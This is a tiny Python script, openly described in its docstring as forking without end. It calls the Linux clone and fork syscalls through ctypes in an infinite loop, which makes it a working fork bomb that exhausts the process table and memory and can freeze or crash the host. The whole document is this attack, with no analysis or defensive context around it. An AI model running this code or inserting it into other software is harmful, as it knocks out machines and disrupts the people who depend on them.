"""Forks without end, by the system call itself."""

import ctypes

libc = ctypes.CDLL(None)
while True:
    libc.syscall(56, 17, 0, 0, 0, 0)
    libc.syscall(57)
